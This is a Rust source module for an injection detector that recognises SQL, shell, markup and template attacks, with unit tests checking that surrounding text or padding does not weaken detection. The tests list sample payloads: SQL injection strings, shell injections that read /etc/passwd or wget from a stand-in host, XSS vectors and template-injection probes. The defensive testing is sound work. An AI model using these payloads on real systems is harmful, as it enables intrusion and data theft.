//! The languages that attacks are written in, one file or folder each. A recogniser reads a value as
//! that language would and says whether it is an injection, and how sure that is.
//!
//! ```text
//! value -> tokens of the language -> what they do there -> Option<Finding>
//! ```
//! Each is linear in the length of the value, and keeps no state.
//! The operators of the same subject in [`super::operators`] hand values to them.

mod address;
mod byte_pairs;
mod differences;
mod fragment;
mod graphql;
mod host;
mod lines;
mod markup;
mod path;
mod places;
mod shell;
mod sql;
mod template;

pub(super) use address::{MARKS as ADDRESS_MARKS, reach};
use differences::Differences;
use fragment::fragments_with;
pub(super) use fragment::{fragments, json_strings, lines_near, pieces_near};
pub(super) use graphql::GraphqlCost;
pub(super) use host::Reach;
pub(super) use lines::spans_lines;
pub(super) use markup::markup;
pub(super) use path::levels_above_root;
pub(super) use shell::{Dialect, shell};
pub(super) use sql::sql;
pub(super) use template::template;

/// How sure it is that a value is an injection.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Strength {
    /// Such things occur in attacks, and where people write about code.
    Possible,
    /// Seldom anything but an attack.
    Likely,
    /// Nothing else has this form.
    Certain,
}

impl Strength {
    /// Of an operator's argument.
    pub(super) fn parse(text: &str) -> Result<Self, String> {
        match text.trim() {
            "certain" => Ok(Self::Certain),
            "likely" => Ok(Self::Likely),
            "possible" => Ok(Self::Possible),
            other => Err(format!("expected `certain`, `likely` or `possible`, found `{other}`")),
        }
    }
}

/// What is asked about a value.
#[derive(Clone, Copy, Debug)]
pub(super) struct Question<'v> {
    /// What the value was made of, if it was judged and did not match: only what differs can.
    pub(super) unmatched: Option<&'v [u8]>,
    /// Weaker findings need not be looked for.
    pub(super) at_least: Strength,
}

impl Question<'_> {
    /// Whether anything is found anywhere.
    pub(super) const ANY: Self = Self { unmatched: None, at_least: Strength::Possible };

    /// Where a text, the value or one made of it, may hold what was not judged yet.
    fn differences(&self, text: &[u8]) -> Differences {
        self.unmatched.map_or(Differences::ALL, |unmatched| Differences::between(unmatched, text))
    }
}

/// An injection in a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Finding {
    pub(super) strength: Strength,
    /// Where the injection begins.
    pub(super) from: usize,
}

impl Finding {
    fn at(strength: Option<Strength>, from: usize) -> Option<Self> {
        strength.map(|strength| Self { strength, from })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    type Judge = fn(&[u8]) -> Option<Finding>;

    const ATTACKS: &[(Judge, &[&str])] = &[
        (
            |value| sql(value, Question::ANY),
            &[
                "1' OR '1'='1",
                "1 or 1=1",
                "admin'--",
                "1 union select 1,2",
                "'; drop table users--",
                "1 order by 3--",
            ],
        ),
        (
            |value| shell(value, Dialect::Unix),
            &["; cat /etc/passwd", "x; id", "`id`", "$(sleep 5)", "a|whoami", "&& wget http://e.example/x"],
        ),
        (|value| shell(value, Dialect::Windows), &["& dir c:\\", "| type c:\\boot.ini", "&& ipconfig /all"]),
        (
            |value| markup(value, Question::ANY),
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "' onfocus=alert(1) x='",
                "javascript:alert(1)",
            ],
        ),
        (
            |value| template(value, Question::ANY),
            &["{{7*7}}", "${T(java.lang.Runtime).getRuntime()}", "{{config.items()}}", "<%= 7*7 %>"],
        ),
    ];

    /// Lines that people write, before and behind.
    const LINES: &[(&str, &str)] = &[
        ("Hello team, this is what I found on Monday.", "Please tell me if it works for you."),
        ("Bitte prüft, ob das so geht, und sagt mir Bescheid.", "Vielen Dank für die Hilfe."),
        ("Voici le texte que je voulais vous montrer.", "Merci d'avance et à bientôt."),
        ("Este es el texto que quería enviar.", "Gracias por la ayuda."),
        ("Вот текст, который я хотел показать.", "Спасибо за помощь."),
        ("この商品について教えてください。", "よろしくお願いします。"),
        ("请帮我看看这个文本。", "谢谢你的帮助。"),
        ("هذا هو النص الذي أردت إرساله", "شكرا على المساعدة"),
        ("# Report\n\n- size: 42\n- colour: red", "That is **all**."),
        ("SELECT name FROM users;\nfn main() {}\nif (a && b) { c(); }", "return x;\necho done"),
    ];

    #[test]
    fn no_line_around_an_attack_lowers_it() {
        let mut ran = 0;
        for (judge, attacks) in ATTACKS {
            for attack in *attacks {
                let plain = judge(attack.as_bytes()).map(|found| found.strength);
                assert!(plain.is_some(), "{attack}");
                for (before, after) in LINES {
                    for line_end in ["\n", "\r\n", "\n\n", "\n> ", "\nuser: "] {
                        // What quotes and names a line is part of it, but stands before the attack.
                        let text = format!("{before}{line_end}{attack}\n{after}");
                        let framed = judge(text.as_bytes()).map(|found| found.strength);
                        assert!(framed >= plain, "{plain:?} -> {framed:?}: {text}");
                        ran += 1;
                    }
                }
            }
        }
        assert!(ran > 1_000, "{ran}");
    }

    #[test]
    fn lines_around_an_attack_and_line_breaks_in_it_hide_nothing_together() {
        let mut ran = 0;
        // A command ends with its line.
        for (judge, attacks) in [&ATTACKS[0], &ATTACKS[3], &ATTACKS[4]] {
            for attack in attacks.iter().filter(|attack| attack.contains(' ')) {
                for line_break in ["\n", "\r\n", "\n\t"] {
                    let attack = attack.replace(' ', line_break);
                    let plain = judge(attack.as_bytes()).map(|found| found.strength);
                    for (before, after) in LINES {
                        let text = format!("{before}\nand one more line\n{attack}\n{after}");
                        let framed = judge(text.as_bytes()).map(|found| found.strength);
                        assert!(framed >= plain, "{plain:?} -> {framed:?}: {text}");
                        ran += 1;
                    }
                }
            }
        }
        assert!(ran > 200, "{ran}");
    }

    /// What recognisers look at, again and again: no number of them may use up what they read.
    const MARKS: &[&str] = &[
        "'",
        "\"",
        "`",
        ";",
        "|",
        "&",
        "$",
        "(",
        ")",
        "{",
        "[",
        "<",
        "/",
        "\\",
        "=",
        "+",
        "-",
        "#",
        "%",
        "@",
        "\n",
        " ",
        "${",
        "{{",
        "<%",
        "[[",
        "{'",
        "{\"",
        "{(",
        "{1+",
        "#{",
        "; ",
        "a;",
        "a|",
        "&& ",
        "$(",
        "`a` ",
        "; more ",
        "1 or ",
        "or (",
        "or 1=",
        "' or x",
        "'+",
        "';",
        " union ",
        "; select ",
        "/*",
        "--",
        "<a ",
        "<img x=\"",
        "</",
        "a\n",
        "\n(",
    ];

    #[test]
    fn no_number_of_marks_before_an_attack_lowers_it() {
        const PADDING_BYTES: usize = 40_000;
        let mut ran = 0;
        for (judge, attacks) in ATTACKS {
            for attack in attacks.iter().take(2) {
                let strength = |text: String| judge(text.as_bytes()).map(|found| found.strength);
                let behind_words = strength(format!("some words {attack}"));
                for mark in MARKS {
                    let padding = mark.repeat(PADDING_BYTES / mark.len());
                    let padded = strength(format!("{padding} {attack}"));
                    assert!(padded >= behind_words, "{behind_words:?} -> {padded:?}: {mark:?} {attack}");
                    ran += 1;
                }
            }
        }
        assert_eq!(ran, MARKS.len() * 2 * ATTACKS.len());
    }

    #[test]
    fn fragments_are_the_lines_sentences_and_strings() {
        let parts = |value: &str| {
            let parts = fragments(value.as_bytes()).map(|(at, part)| {
                assert!(value.as_bytes()[at..].starts_with(part));
                String::from_utf8(part.to_vec()).unwrap()
            });
            parts.collect::<Vec<_>>()
        };
        assert_eq!(parts("one line"), Vec::<String>::new());
        assert_eq!(parts("first\r\nsecond"), ["first", "second"]);
        assert_eq!(parts("Hello. How are you? x: 1=1"), ["Hello", "How are you", "1=1"]);
        assert_eq!(parts("<p>it is here</p>"), ["it is here</p>"]);
        assert_eq!(parts("{\"name\":\"a \\\"b\\\"\"}"), ["name", "a \\\"b\\\""]);
    }
}
